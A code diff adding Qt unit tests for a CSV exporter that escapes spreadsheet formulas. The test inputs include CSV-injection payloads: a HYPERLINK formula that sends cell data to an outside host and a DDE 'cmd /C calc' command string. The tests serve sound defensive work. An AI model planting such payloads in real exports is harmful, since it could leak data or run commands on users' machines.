@@ -31,6 +31,56 @@ private Q_SLOTS:
         QTEST(core::csvField(text), "field");
     }
 
+    void formulasBecomeTexts_data()
+    {
+        QTest::addColumn<QString>("text");
+        QTest::addColumn<bool>("isFormula");
+        const auto row
+            = [](const QString& text, bool isFormula) { QTest::newRow(qPrintable(text)) << text << isFormula; };
+        row(QStringLiteral("=HYPERLINK(\"http://a/?x=\"&A1)"), true);
+        row(QStringLiteral("+cmd|' /C calc'!A0"), true);
+        row(QStringLiteral("-1+1"), true);
+        row(QStringLiteral("@SUM(A1)"), true);
+        row(QStringLiteral("\t=1+1"), true);
+        row(QStringLiteral("\r\n =1+1"), true);
+        row(QStringLiteral("\u200b=1"), true);
+        row(QStringLiteral("\uFF1D1+1"), true);
+        row(QStringLiteral("-"), true);
+        row(QStringLiteral("-> forward"), true);
+        row(QStringLiteral("--"), true);
+        row(QStringLiteral("-3.5"), false);
+        row(QStringLiteral("+5"), false);
+        row(QStringLiteral("-1,234.5"), false);
+        row(QStringLiteral("-1.25e-13"), false);
+        row(QStringLiteral("-10.950 s"), false);
+        row(QStringLiteral("-5 \u00b5s"), false);
+        row(QStringLiteral("-5%"), false);
+        row(QStringLiteral("-5 A1"), true);
+        row(QStringLiteral("void k<(int)-1>(float*)"), false);
+        row(QStringLiteral("<unnamed>::k"), false);
+        row(QString(), false);
+        row(QStringLiteral("  "), false);
+    }
+
+    void formulasBecomeTexts()
+    {
+        QFETCH(QString, text);
+        QFETCH(bool, isFormula);
+        QCOMPARE(core::withoutFormula(text), isFormula ? u'\'' + text : text);
+    }
+
+    void onlyTextsAreQuoted()
+    {
+        using reportfixtures::column;
+        core::Table table = reportfixtures::countingTable(1);
+        table.columns
+            = { column(QStringLiteral("name"), QStringLiteral("Name"), core::Unit::None, { QStringLiteral("=1") }),
+                column(QStringLiteral("a"), QStringLiteral("A"), core::Unit::Count, { std::int64_t { -3 } }),
+                column(QStringLiteral("b"), QStringLiteral("B"), core::Unit::Percent, { -1.5 }, 1) };
+        QCOMPARE(core::tableToCsv(table), QByteArray("name,a,b\r\n'=1,-3,-1.50000\r\n"));
+        QCOMPARE(core::tableToCsv(table, core::CsvFormulas::Keep), QByteArray("name,a,b\r\n=1,-3,-1.50000\r\n"));
+    }
+
     void numbersKeepTheirFigure_data()
     {
         QTest::addColumn<double>("value");
@@ -58,7 +108,7 @@ private Q_SLOTS:
     void tableCanBeReadBack()
     {
         const auto table = reportfixtures::oddTable();
-        const auto records = parseCsv(core::tableToCsv(table));
+        const auto records = parseCsv(core::tableToCsv(table, core::CsvFormulas::Keep));
         QVERIFY(records);
         QCOMPARE(records->size(), table.rowCount + 1);
         QCOMPARE(records->front(),
